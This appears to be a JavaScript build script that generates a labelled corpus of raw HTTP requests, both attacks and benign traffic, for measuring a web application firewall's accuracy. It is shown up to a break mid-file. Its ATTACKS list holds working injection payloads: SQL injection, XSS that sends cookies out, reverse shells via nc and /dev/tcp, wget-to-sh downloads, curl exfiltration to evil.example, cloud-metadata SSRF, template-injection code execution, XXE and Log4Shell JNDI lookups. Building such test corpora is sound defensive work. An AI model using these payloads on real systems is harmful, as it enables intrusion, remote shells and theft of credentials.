/**
 * Builds the WAF accuracy corpora (bench/waf-accuracy.mjs reads them): attacks and benign
 * requests, all written here by us (no third-party payload list is copied), as raw HTTP/1.1
 * requests with labels.
 *
 *   node bench/corpora/build.mjs     -> bench/corpora/waf-corpus.jsonl
 *
 * One JSON object a line: { id, label: 'attack'|'benign', class, placement, encoding, payload, raw }.
 * `raw` holds the request's bytes, one character per byte (latin1), Host: localhost and
 * Connection: close, so that it can be written to a socket as is. `payload` is the attack (or the
 * benign value) before it was placed and encoded.
 *
 * Attacks: ten classes (sqli, xss, cmdi, traversal, ssrf, ssti, ldap, nosql, xxe, log4shell), each
 * placed in the query, a urlencoded body, JSON, XML, a multipart form, a header, a cookie and the
 * path (XXE only where XML is read: an XML body and an uploaded XML file), plain and encoded:
 * `url` (every byte but letters and digits percent-encoded, where the server decodes once), `double-url`
 * (percent-encoded twice: an application that decodes once more), `unicode` (JSON's \uXXXX escapes for
 * every character but letters and digits), `base64` (a cookie or header an application decodes).
 * Benign: what sites receive every day, with the characters that trip WAFs (apostrophes in names,
 * quotes in searches, code in comments, Japanese text, uploads).
 *
 * Deterministic: the same file on every run.
 */
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const HERE = dirname(fileURLToPath(import.meta.url));
export const CORPUS_FILE = join(HERE, 'waf-corpus.jsonl');

// ---------------------------------------------------------------------------------------------
// Attack payloads, by class (our own).
// ---------------------------------------------------------------------------------------------

export const ATTACKS = {
  sqli: [
    "' OR '1'='1",
    "1 UNION SELECT username, password_hash FROM accounts--",
    "7; DROP TABLE invoices; --",
    "admin'-- ",
    "3 AND SLEEP(5)",
    "1' AND extractvalue(1, concat(0x7e, (SELECT version())))-- -",
    "-1 OR 2>1",
    "x' AND 1=(SELECT COUNT(*) FROM information_schema.columns)--",
    "'; EXEC master..xp_cmdshell 'ping 203.0.113.9'--",
    "42) OR (1=1",
  ],
  xss: [
    '<script>alert(document.cookie)</script>',
    '<img src=x onerror=alert(1)>',
    "<svg/onload=fetch('//203.0.113.9/c?'+document.cookie)>",
    'javascript:alert(document.domain)',
    '"><iframe src="javascript:alert(1)">',
    '<body onload=alert(`x`)>',
    '<a href=# onclick="eval(atob(\'YWxlcnQoMSk=\'))">win a prize</a>',
    '<details open ontoggle=prompt(1)>',
    "'-alert(1)-'",
    '<math><mtext><img src=1 onerror=confirm(2)></mtext></math>',
  ],
  cmdi: [
    '; cat /etc/passwd',
    '| id',
    '$(whoami)',
    '`uname -a`',
    '&& wget http://203.0.113.9/x.sh -O- | sh',
    '; nc -e /bin/sh 203.0.113.9 4444',
    '|| curl http://evil.example/$(hostname)',
    '; ls -la /var/www/html',
    '127.0.0.1; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
    '& ping -n 5 203.0.113.9 &',
  ],
  traversal: [
    '../../../../etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '....//....//....//etc/shadow',
    '/var/www/images/../../../etc/hosts',
    '../../../../proc/self/environ',
    '../../../../../../boot.ini',
    '../../.ssh/id_rsa',
    '../WEB-INF/web.xml',
  ],
  ssrf: [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://127.0.0.1:6379/',
    'http://[::1]/admin/',
    'gopher://127.0.0.1:25/_HELO%20localhost',
    'http://metadata.google.internal/computeMetadata/v1/instance/',
    'http://0x7f000001:8080/internal',
    'file:///etc/passwd',
    'dict://localhost:11211/stats',
    'http://10.0.0.5/admin/config',
  ],
  ssti: [
    '{{7*7}}',
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    '${7*7}',
    '<%= `id` %>',
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    '#{7*7}',
    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    '{{request.application.__globals__.__builtins__.__import__("os").popen("id").read()}}',
  ],
  ldap: [
    '*)(uid=*))(|(uid=*',
    'admin)(&(password=*))',
    '*)(objectClass=*',
    ')(cn=*))(|(cn=*',
    'admin*)((|userPassword=*)',
    '*))%00',
    'jdoe)(|(memberOf=cn=admins,ou=groups,dc=example,dc=com)',
  ],
  nosql: [
    '{"$ne": null}',
    '{"$gt": ""}',
    '{"$where": "sleep(5000) || true"}',
    '{"$regex": "^adm"}',
    "'; return true; var x='",
    '{"$or": [{"role": "admin"}, {"$where": "1==1"}]}',
  ],
  xxe: [
    '<?xml version="1.0"?><!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><order><note>&xxe;</note></order>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % remote SYSTEM "http://203.0.113.9/evil.dtd"> %remote;]><r>x</r>',
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><d>&c;</d>',
    '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><p>&x;</p>',
    '<!DOCTYPE svg [<!ENTITY s SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&s;</text></svg>',
    '<?xml version="1.0"?><!DOCTYPE q SYSTEM "http://203.0.113.9/q.dtd"><q>1</q>',
  ],
  log4shell: [
    '${jndi:ldap://203.0.113.9:1389/a}',
    '${jndi:rmi://evil.example:1099/obj}',
    '${${lower:j}ndi:ldap://evil.example/x}',
    '${${::-j}${::-n}${::-d}${::-i}:dns://evil.example/probe}',
    '${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/y}',
    '${env:AWS_SECRET_ACCESS_KEY}',
    '${jndi:ldaps://${env:USER}.evil.example/z}',
  ],
};

// ---------------------------------------------------------------------------------------------
// Encodings and request builders.
// ---------------------------------------------------------------------------------------------

const utf8 = (s) => Buffer.from(s, 'utf8').toString('latin1');
/** Percent-encodes every byte but ASCII letters and digits. */
const pctAll = (s) => [...Buffer.from(s, 'utf8')].map((b) => (/[A-Za-z0-9]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).toUpperCase().padStart(2, '0')}`)).join('');
/** What a client must encode in a query or form value (and no more): `%`, `&`, `+`, `#`, `=`, space, controls, non-ASCII. */
const pctMin = (s) => [...Buffer.from(s, 'utf8')].map((b) => (b <= 0x20 || b >= 0x7f || '%&+#='.includes(String.fromCharCode(b)) ? (b === 0x20 ? '+' : `%${b.toString(16).toUpperCase().padStart(2, '0')}`) : String.fromCharCode(b))).join('');
/** A path segment: what cannot stand in a request target, and `?`, `#`, `%`. */
const pctPath = (s) => [...Buffer.from(s, 'utf8')].map((b) => (b <= 0x20 || b >= 0x7f || '?#%'.includes(String.fromCharCode(b)) ? `%${b.toString(16).toUpperCase().padStart(2, '0')}` : String.fromCharCode(b))).join('');
const jsonUnicode = (s) => `"${[...s].map((c) => (/[A-Za-z0-9]/.test(c) ? c : `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)).join('')}"`;
const xmlText = (s) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const b64 = (s) => Buffer.from(s, 'utf8').toString('base64');

const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
];

/**
 * A raw request: method, target, extra headers ([name, value] pairs, byte strings), body (a byte
 * string). Browser-like headers first; Content-Length computed; Connection: close.
 */
function raw({ method = 'GET', target, headers = [], body, n = 0, accept = 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8' }) {
  const names = new Set(headers.map(([k]) => k.toLowerCase()));
  const h = [['Host', 'localhost']];
  if (!names.has('user-agent')) h.push(['User-Agent', UAS[n % UAS.length]]);
  if (!names.has('accept')) h.push(['Accept', accept]);
  if (!names.has('accept-language')) h.push(['Accept-Language', n % 3 === 0 ? 'ja,en-US;q=0.8,en;q=0.6' : 'en-US,en;q=0.9']);
  h.push(...headers);
  if (body !== undefined) h.push(['Content-Length', String(body.length)]);
  h.push(['Connection', 'close']);
  return `${method} ${target} HTTP/1.1\r\n${h.map(([k, v]) => `${k}: ${v}`).join('\r\n')}\r\n\r\n${body ?? ''}`;
}

const BOUNDARY = '----formdata-mamori-7d91c3e5a2';
/** A multipart/form-data body from [{ name, value } | { name, filename, type, content }] (byte strings). */
function multipart(parts) {
  let out = '';
  for (const p of parts) {
    out += `--${BOUNDARY}\r\n`;
    if (p.filename !== undefined) out += `Content-Disposition: form-data; name="${p.name}"; filename="${p.filename}"\r\nContent-Type: ${p.type}\r\n\r\n${p.content}\r\n`;
    else out += `Content-Disposition: form-data; name="${p.name}"\r\n\r\n${p.value}\r\n`;
  }
  return `${out}--${BOUNDARY}--\r\n`;
}
const MULTIPART_CT = `multipart/form-data; boundary=${BOUNDARY}`;

// Where an attack goes: each returns a raw request for a payload already encoded for that place.
// Field names are the ones an attacker would pick for the class (an id for SQL, a URL for SSRF).
const FIELD = { sqli: 'id', xss: 'comment', cmdi: 'host', traversal: 'file', ssrf: 'url', ssti: 'name', ldap: 'user', nosql: 'username', xxe: 'data', log4shell: 'q' };

/** Encodings that apply to a placement (the first is "plain"). */
const ENCODINGS = {
  query: ['plain', 'url', 'double-url'],
  form: ['plain', 'url', 'double-url'],
  json: ['plain', 'unicode', 'double-url'],
  xml: ['plain', 'url'],
  multipart: ['plain', 'url'],
  header: ['plain', 'url', 'base64'],
  cookie: ['plain', 'url', 'base64'],
  path: ['plain', 'url', 'double-url'],
};

/** The payload as it stands in a place, encoded. Returns undefined when the pair makes no sense. */
function encodeFor(placement, encoding, p) {
  switch (encoding) {
    case 'plain':
      if (placement === 'query' || placement === 'form') return pctMin(p);
      if (placement === 'path') return pctPath(p);
      if (placement === 'json') return JSON.stringify(p);
      if (placement === 'xml') return xmlText(p);
      if (placement === 'header' || placement === 'cookie') return /[\r\n]/.test(p) ? undefined : utf8(placement === 'cookie' ? p.replace(/;/g, '%3B') : p);
      return utf8(p);
    case 'url':
      return placement === 'json' ? JSON.stringify(pctAll(p)) : pctAll(p);
    case 'double-url':
      return placement === 'json' ? JSON.stringify(pctAll(pctAll(p))) : pctAll(pctAll(p));
    case 'unicode':
      return jsonUnicode(p);
    case 'base64':
      return b64(p);
    default:
      throw new Error(`unknown encoding ${encoding}`);
  }
}

/** The request carrying an encoded payload `v` in `placement` (cls picks the field and shape). */
function place(placement, cls, v, n) {
  const f = FIELD[cls];
  switch (placement) {
    case 'query':
      return raw({ target: `/search?${f}=${v}&page=1`, n });
    case 'form':
      return raw({ method: 'POST', target: '/account/update', headers: [['Content-Type', 'application/x-www-form-urlencoded'], ['Origin', 'https://shop.example.com']], body: `display_name=Kim&${f}=${v}&save=1`, n });
    case 'json': {
      // NoSQL operators go in as JSON structure when the payload is an object.
      const body = cls === 'nosql' && v.startsWith('{') ? `{"${f}":"alice","password":${v}}` : `{"${f}":${v},"page":1,"lang":"en"}`;
      return raw({ method: 'POST', target: '/api/v1/lookup', headers: [['Content-Type', 'application/json'], ['Accept', 'application/json']], body, n });
    }
    case 'xml': {
      const body = cls === 'xxe' ? v : `<?xml version="1.0" encoding="UTF-8"?><request><${f}>${v}</${f}><page>1</page></request>`;
      return raw({ method: 'POST', target: '/api/soap/lookup', headers: [['Content-Type', 'application/xml']], body, n });
    }
    case 'multipart': {
      const parts = cls === 'xxe' ? [{ name: 'title', value: 'Quarterly report' }, { name: 'attachment', filename: 'report.xml', type: 'application/xml', content: v }] : [{ name: 'title', value: 'Profile' }, { name: f, value: v }, { name: 'avatar', filename: 'me.txt', type: 'text/plain', content: 'hello' }];
      return raw({ method: 'POST', target: '/profile/upload', headers: [['Content-Type', MULTIPART_CT]], body: multipart(parts), n });
    }
    case 'header': {
      // Log4Shell's home is the User-Agent; the others ride a header an application reads.
      const h = cls === 'log4shell' || cls === 'xss' || cls === 'sqli' ? (n % 2 ? 'User-Agent' : 'Referer') : cls === 'ssrf' ? 'X-Callback-Url' : 'X-Api-Filter';
      const val = h === 'Referer' ? `https://shop.example.com/?q=${v}` : v;
      return raw({ target: '/api/v1/profile', headers: [[h, val]], n });
    }
    case 'cookie':
      return raw({ target: '/account', headers: [['Cookie', `session=5b1e0c9d2f7a4e83; ${f}=${v}; theme=light`]], n });
    case 'path':
      return raw({ target: cls === 'traversal' ? `/static/${v}` : `/products/${v}/reviews`, n });
    default:
      throw new Error(placement);
  }
}

function attacks() {
  const out = [];
  let n = 0;
  for (const [cls, payloads] of Object.entries(ATTACKS)) {
    const placements = cls === 'xxe' ? ['xml', 'multipart'] : Object.keys(ENCODINGS);
    let k = 0;
    for (const placement of placements) {
      // XXE: every payload plain in each of its two places, and url-encoded in none (XML is not decoded).
      const encs = cls === 'xxe' ? ['plain'] : ENCODINGS[placement];
      const plainCount = cls === 'xxe' ? payloads.length : 3;
      for (const encoding of encs) {
        const count = encoding === 'plain' ? plainCount : 1;
        for (let j = 0; j < count; j++) {
          const payload = payloads[k++ % payloads.length];
          const v = cls === 'xxe' ? payload : encodeFor(placement, encoding, payload);
          if (v === undefined) continue;
          out.push({ label: 'attack', class: cls, placement, encoding, payload, raw: place(placement, cls, v, n++) });
        }
      }
    }
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// Benign traffic.
// ---------------------------------------------------------------------------------------------

const SEARCHES = [
  "women's running shoes", '"noise cancelling" headphones', 'c++ primer 5th edition', '50% off sale', 'AT&T prepaid sim', 'rock & roll t-shirt',
  'usb-c to hdmi (4k 60hz)', "children's books age 3-5", 'ikea malm drawer #3 replacement', 'what is 2+2?', 'how to select a cast iron pan', 'drop-in sink 33"',
  'ワイヤレスイヤホン ノイズキャンセリング', '東京 ホテル 駅近', 'コーヒーミル 手動', 'Müller Milchreis', 'café crème recette', 'naïve bayes python',
  'size 10 1/2', 'O\'Reilly learning SQL', 'union station parking', 'where to buy select comfort bed', 'script writing course', 'alert tone ringtones',
];
const NAMES = [["O'Brien", 'Siobhan'], ["D'Angelo", 'Marco'], ['Nguyễn', 'Thị Mai'], ['山田', '太郎'], ['García-López', 'José María'], ["O'Connor-Smith", 'Liam'], ['van der Berg', 'Anneke'], ['Ølstad', 'Bjørn'], ['佐藤', '花子'], ["N'Diaye", 'Awa']];
const ADDRESSES = [
  "Apt #4, 12 O'Connell St., Dublin 1", '1600 Amphitheatre Pkwy, Mountain View, CA 94043', 'Flat 3/2, 45 Sauchiehall Street, Glasgow G2 3AT', 'c/o Smith & Sons Ltd., Unit 7, Dock Road',
  '東京都千代田区千代田1-1', '大阪府大阪市北区梅田3丁目1-3 ノースゲートビル 12F', 'P.O. Box 1234; Anchorage, AK 99501', '221B Baker Street (rear entrance), London NW1 6XE',
  'Rua Augusta, 274 - 2º Dto, 1100-053 Lisboa', '1-2-3 Shibuya; Shibuya-ku, Tokyo 150-0002',
];
const COMMENTS = [
  'Great write-up! One thing: in step 3 you can use `SELECT name, email FROM users WHERE id = ?` with a prepared statement instead of string concatenation.',
  "I had the same issue. Running `npm install --save-dev typescript` fixed it for me, then `npx tsc --init`.",
  'For anyone on Windows: the path is C:\\Users\\you\\AppData\\Roaming\\npm - took me an hour to find.',
  "Thanks! Tiny nit: `if (a < b && b > c)` reads better as two checks. Otherwise spot on.",
  'You can also do it in bash: for f in *.jpg; do convert "$f" -resize 50% "small-$f"; done',
  "Here's the Python version:\n\nimport json\nwith open('data.json') as fh:\n    data = json.load(fh)\nprint(len(data))",
  'In React you would write <Button onClick={handleClick}>Save</Button> and keep the state in the parent.',
  'Does this work with Postgres 16? I get "ERROR: relation does not exist" when I run the migration.',
  "Loved the photos from Kyoto! We went last spring; the 5am visit to Fushimi Inari was worth it.",
  '記事ありがとうございます。とても参考になりました！次回の更新も楽しみにしています。',
  'My 2 cents: use `git rebase -i HEAD~3` and squash, then `git push --force-with-lease`.',
  'The formula should be =SUM(A1:A10)/COUNT(A1:A10), not =AVERAGE(A1;A10).',
  "I'd recommend the 2nd edition; the 3rd one dropped the chapter on joins & indexes.",
  'CSS tip: .card > .title { font-weight: 600; } works without the !important.',
];
const PRODUCTS = ['SKU-10442', 'SKU-20318', 'SKU-33107', 'SKU-41880', 'SKU-52210'];
const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360f80f00000101000518d84e0000000049454e44ae426082', 'hex').toString('latin1');

function benign() {
  const out = [];
  let n = 1000;
  const add = (cls, placement, payload, r) => out.push({ label: 'benign', class: cls, placement, encoding: 'plain', payload, raw: r });
  // Searches: a search form's GET, and the same typed into a JSON search API.
  for (const q of SEARCHES) {
    add('search', 'query', q, raw({ target: `/search?q=${pctMin(q)}&sort=relevance&page=${1 + (n % 4)}`, headers: [['Referer', 'https://shop.example.com/'], ['Cookie', `session=9a8b7c6d5e4f${n}; cart=3`]], n: n++ }));
    add('search', 'json', q, raw({ method: 'POST', target: '/api/v1/search', headers: [['Content-Type', 'application/json'], ['Accept', 'application/json']], body: utf8(JSON.stringify({ query: q, filters: { in_stock: true, price: { min: 0, max: 200 } }, page: 1 })), n: n++ }));
  }
  // Sign-ups and address books: names with apostrophes, accents and kanji; addresses with #, &, ;.
  for (let i = 0; i < NAMES.length; i++) {
    const [last, first] = NAMES[i];
    const addr = ADDRESSES[i % ADDRESSES.length];
    const email = `${first.normalize('NFD').replace(/[^A-Za-z]/g, '').toLowerCase() || 'user'}.${i}@example.com`;
    add('names', 'form', `${first} ${last}`, raw({ method: 'POST', target: '/signup', headers: [['Content-Type', 'application/x-www-form-urlencoded'], ['Origin', 'https://shop.example.com']], body: `first_name=${pctMin(first)}&last_name=${pctMin(last)}&email=${pctMin(email)}&password=${pctMin(`Corr3ct-Horse-${i}!`)}&terms=on`, n: n++ }));
    add('address', 'form', addr, raw({ method: 'POST', target: '/checkout/address', headers: [['Content-Type', 'application/x-www-form-urlencoded']], body: `name=${pctMin(`${first} ${last}`)}&address=${pctMin(addr)}&phone=${pctMin(`+81 (3) 5555-01${i}`)}&notes=${pctMin("Leave at the door if we're out")}`, n: n++ }));
    add('address', 'json', addr, raw({ method: 'PUT', target: `/api/v1/customers/${4100 + i}/address`, headers: [['Content-Type', 'application/json'], ['Authorization', `Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIke2l9In0.${b64(`sig${i}`).replace(/=/g, '')}`]], body: utf8(JSON.stringify({ name: `${first} ${last}`, line1: addr, country: i % 2 ? 'JP' : 'GB', default: true })), n: n++ }));
    add('names', 'query', last, raw({ target: `/admin/customers?last_name=${pctMin(last)}&first_name=${pctMin(first)}`, headers: [['Cookie', `admin_session=f00d${i}cafe; tz=Asia%2FTokyo`]], n: n++ }));
  }
  // Blog comments, some with code: a form, a JSON API, and a multipart form with an image.
  for (let i = 0; i < COMMENTS.length; i++) {
    const c = COMMENTS[i];
    add('comment', 'form', c, raw({ method: 'POST', target: '/blog/2026/11/setting-up-typescript/comments', headers: [['Content-Type', 'application/x-www-form-urlencoded'], ['Referer', 'https://blog.example.com/2026/11/setting-up-typescript']], body: `author=${pctMin(NAMES[i % NAMES.length][1])}&email=reader${i}%40example.com&body=${pctMin(c)}&notify=1`, n: n++ }));
    add('comment', 'json', c, raw({ method: 'POST', target: '/api/comments', headers: [['Content-Type', 'application/json; charset=utf-8']], body: utf8(JSON.stringify({ post_id: 812 + i, body: c, markdown: true })), n: n++ }));
  }
  // Uploads: images, a PDF, a CSV, a text file, with a caption.
  const files = [
    ['photo.png', 'image/png', PNG],
    ['IMG_2041.png', 'image/png', PNG + PNG.slice(8)],
    ['invoice-2026-11.pdf', 'application/pdf', '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'],
    ['contacts.csv', 'text/csv', utf8('name,email,city\n"O\'Brien, Siobhan",s.obrien@example.com,Dublin\n山田太郎,yamada@example.jp,東京\n')],
    ['notes.txt', 'text/plain', utf8('Meeting notes 2026-11-30\n- ship v2 on Friday\n- ask Marco about the 50% discount & coupons\n')],
    ['résumé.pdf', 'application/pdf', '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj << >> endobj\n%%EOF\n'],
  ];
  for (let i = 0; i < files.length; i++) {
    const [filename, type, content] = files[i];
    add('upload', 'multipart', filename, raw({ method: 'POST', target: '/media/upload', headers: [['Content-Type', MULTIPART_CT], ['Origin', 'https://shop.example.com']], body: multipart([{ name: 'caption', value: utf8(i % 2 ? 'Our trip to Kyoto - day 2 (金閣寺)' : "Mary's birthday cake, take 2") }, { name: 'album', value: '2026' }, { name: 'file', filename: utf8(filename), type, content }]), n: n++ }));
  }
  for (let i = 0; i < 6; i++) {
    const c = COMMENTS[(i * 3) % COMMENTS.length];
    add('comment', 'multipart', c, raw({ method: 'POST', target: '/forum/thread/4412/reply', headers: [['Content-Type', MULTIPART_CT]], body: multipart([{ name: 'body', value: utf8(c) }, { name: 'screenshot', filename: `screenshot-${i}.png`, type: 'image/png', content: PNG }]), n: n++ }));
  }
  // JSON APIs: carts, orders, settings, GraphQL.
  for (let i = 0; i < 20; i++) {
    const bodies = [
      { op: 'add', sku: PRODUCTS[i % 5], qty: 1 + (i % 3), gift: i % 4 === 0, note: i % 2 ? 'Please gift-wrap; it\'s for my mum' : null },
      { settings: { language: i % 2 ? 'ja' : 'en-GB', timezone: 'Asia/Tokyo', newsletter: { weekly: true, offers: false }, display_name: NAMES[i % NAMES.length].join(' ') } },
      { query: 'query Product($id: ID!) { product(id: $id) { name price { amount currency } reviews(first: 5) { rating body } } }', variables: { id: `${1000 + i}` } },
      { event: 'page_view', path: `/products/${PRODUCTS[i % 5]}`, referrer: 'https://www.google.com/', ts: 1764547200000 + i * 1000, screen: '1920x1080' },
    ];
    const b = bodies[i % bodies.length];
    add('json-api', 'json', JSON.stringify(b).slice(0, 60), raw({ method: i % 4 === 1 ? 'PATCH' : 'POST', target: ['/api/v1/cart', '/api/v1/me/settings', '/graphql', '/collect'][i % 4], headers: [['Content-Type', 'application/json'], ['Accept', 'application/json'], ['X-Requested-With', 'XMLHttpRequest'], ['Cookie', `session=7c1d${i}e8f; _ga=GA1.2.1234567${i}.1764547200`]], body: utf8(JSON.stringify(b)), n: n++ }));
  }
  // Navigation: pages with ordinary query strings, headers and cookies.
  const pages = ['/', '/products?category=shoes&size=9&colour=navy', '/products/SKU-10442', '/cart', '/blog/2026/11/setting-up-typescript', '/search?q=%E3%82%B9%E3%83%8B%E3%83%BC%E3%82%AB%E3%83%BC', '/help/returns#policy', '/account/orders?page=2&per_page=20', '/static/css/site.3f9a1c.css', '/static/img/logo.svg', '/api/v1/products?ids=10442,20318,33107&fields=name,price', '/track?utm_source=newsletter&utm_medium=email&utm_campaign=winter_sale_2026', '/login?next=%2Faccount%2Forders', '/ja/products/%E9%9D%B4', '/feed.xml', '/sitemap.xml', '/products?sort=-price&filter[brand]=acme&filter[price][lt]=100', '/redirect?to=https%3A%2F%2Fshop.example.com%2Fsale', '/docs/api#section-2.3', '/events/2026-12-24/calendar.ics'];
  for (let i = 0; i < pages.length; i++) {
    add('navigation', 'query', pages[i], raw({ target: pages[i].replace(/#.*$/, ''), headers: [['Referer', 'https://shop.example.com/'], ['Accept-Encoding', 'gzip, deflate, br'], ['Cookie', `session=3e2f${i}a1b; consent=${pctMin('{"analytics":false}')}; recently_viewed=SKU-10442|SKU-20318`], ['Upgrade-Insecure-Requests', '1'], ['Sec-Fetch-Mode', 'navigate']], n: n++ }));
  }
  // XML: a SOAP call, an RSS ping, an invoice.
  const xmls = [
    `<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetStock><Sku>SKU-10442</Sku><Warehouse>Osaka &amp; Kobe</Warehouse></GetStock></soap:Body></soap:Envelope>`,
    `<?xml version="1.0"?><methodCall><methodName>weblogUpdates.ping</methodName><params><param><value>My Blog</value></param><param><value>https://blog.example.com/</value></param></params></methodCall>`,
    utf8(`<?xml version="1.0" encoding="UTF-8"?><invoice number="2026-1142"><customer>山田 太郎</customer><line sku="SKU-20318" qty="2">Merino socks (3 pack)</line><note>Deliver after 5 pm, it's a shop</note></invoice>`),
    `<?xml version="1.0"?><order><id>7731</id><items><item>Tea &amp; biscuits</item><item>Mug, 350 ml</item></items><comment><![CDATA[Please don't ring the bell; baby sleeping]]></comment></order>`,
  ];
  for (let i = 0; i < 8; i++) add('xml', 'xml', 'xml document', raw({ method: 'POST', target: ['/api/soap/stock', '/xmlrpc', '/api/invoices', '/api/orders'][i % 4], headers: [['Content-Type', i % 4 === 0 ? 'text/xml; charset=utf-8' : 'application/xml']], body: xmls[i % xmls.length], n: n++ }));
  // Japanese text in forms (contact form, review) and in a path.
  const JA = ['お問い合わせありがとうございます。注文番号12345の配送状況を教えてください。', '商品はとても良かったです！サイズは少し大きめなので、ワンサイズ下をおすすめします。', '「返品」について質問があります：開封済みの商品も返品できますか？', '週末（土・日）も営業していますか？１０時〜１８時の間に伺いたいです。'];
  for (let i = 0; i < 12; i++) {
    const t = JA[i % JA.length];
    if (i % 3 === 2) add('japanese', 'path', t.slice(0, 8), raw({ target: `/ja/search/${pctAll(t.slice(0, 8))}`, n: n++ }));
    else add('japanese', i % 3 ? 'json' : 'form', t, i % 3 ? raw({ method: 'POST', target: '/api/reviews', headers: [['Content-Type', 'application/json']], body: utf8(JSON.stringify({ rating: 4 + (i % 2), title: 'とても満足', body: t })), n: n++ }) : raw({ method: 'POST', target: '/contact', headers: [['Content-Type', 'application/x-www-form-urlencoded']], body: `name=${pctMin('佐藤 花子')}&message=${pctMin(t)}&reply=email`, n: n++ }));
  }
  // Headers an API client sends: tokens, forwarded-for, a custom header with JSON.
  for (let i = 0; i < 10; i++) {
    add('headers', 'header', 'api client', raw({ target: `/api/v1/orders/${9000 + i}`, accept: 'application/json', headers: [['User-Agent', ['curl/8.5.0', 'python-requests/2.32.3', 'okhttp/4.12.0', 'Go-http-client/1.1', 'PostmanRuntime/7.39.0'][i % 5]], ['Authorization', `Bearer ${b64(JSON.stringify({ alg: 'HS256' })).replace(/=/g, '')}.${b64(JSON.stringify({ sub: `user${i}`, scope: 'orders:read' })).replace(/=/g, '')}.c2ln${i}`], ['X-Request-Id', `4f9c2b1e-77aa-4c1d-9e0f-${String(i).padStart(12, '0')}`], ['X-Client-Context', JSON.stringify({ app: 'ios', version: '5.2.1', locale: 'ja_JP' })]], n: n++ }));
  }
  // Logins: passwords with the symbols password rules ask for.
  const PASSWORDS = ["P@ssw0rd'2026", 'correct horse battery staple', 'Tr0ub4dor&3', 'S3cure;Pass!', 'My<Dog>Rex#1', 'q7$Lm!x9*Zp', '"Quoted"-Pa55', 'hunter2 OR better', 'ñandú-Ñ-2026!', 'パスワード2026', 'select-all-the-things9', 'drop.it.like.its.hot1', 'a-b_c=d&e', '(dont)panic42', '1=1isTrue!'];
  for (let i = 0; i < PASSWORDS.length; i++) {
    add('login', 'form', PASSWORDS[i], raw({ method: 'POST', target: '/login', headers: [['Content-Type', 'application/x-www-form-urlencoded'], ['Origin', 'https://shop.example.com'], ['Cookie', `csrf=${b64(`token${i}`)}`]], body: `email=${pctMin(`member${i}@example.com`)}&password=${pctMin(PASSWORDS[i])}&remember=on`, n: n++ }));
  }
  // Profiles: a bio, a website, a handle.
  const BIOS = [
    ['Backend dev @ a small shop in Osaka. Go, Postgres & too much coffee.', 'https://github.com/example-dev'],
    ["Mum of two, runner, baker. If it's not sourdough, it's not bread.", 'https://bakes.example.org/about'],
    ['猫と暮らすデザイナー。フォント好き。', 'https://note.example.jp/designer'],
    ['I write about <select> elements, forms and accessibility.', 'https://a11y.example.net/blog?tag=forms'],
    ["Retired teacher; 'life-long learner'; chess (1650 ELO) & gardening.", 'http://www.example.com/~jsmith/'],
    ["SRE. On call more than I'd like. Opinions are my own.", 'https://example.dev/posts/2026/11/incident-review'],
    ['Translator EN<>JA, 15 years. Rates on request.', 'https://translate.example.co.jp/'],
    ['Amateur astronomer; pics of M31 & the Pleiades.', 'https://astro.example.org/gallery/m31?size=large'],
    ['Photographer | Tokyo | Film & digital', 'https://instagram.example.com/tokyo.frames'],
    ["Dad jokes daily. Why did the SQL query go to therapy? Too many joins.", 'https://jokes.example.com/'],
  ];
  for (let i = 0; i < BIOS.length; i++) {
    const [bio, site] = BIOS[i];
    add('profile', i % 2 ? 'json' : 'form', bio, i % 2 ? raw({ method: 'PATCH', target: '/api/v1/me', headers: [['Content-Type', 'application/json']], body: utf8(JSON.stringify({ bio, website: site, handle: `user_${i}` })), n: n++ }) : raw({ method: 'POST', target: '/settings/profile', headers: [['Content-Type', 'application/x-www-form-urlencoded']], body: `bio=${pctMin(bio)}&website=${pctMin(site)}&handle=user_${i}`, n: n++ }));
  }
  // Product reviews: short texts with punctuation and numbers.
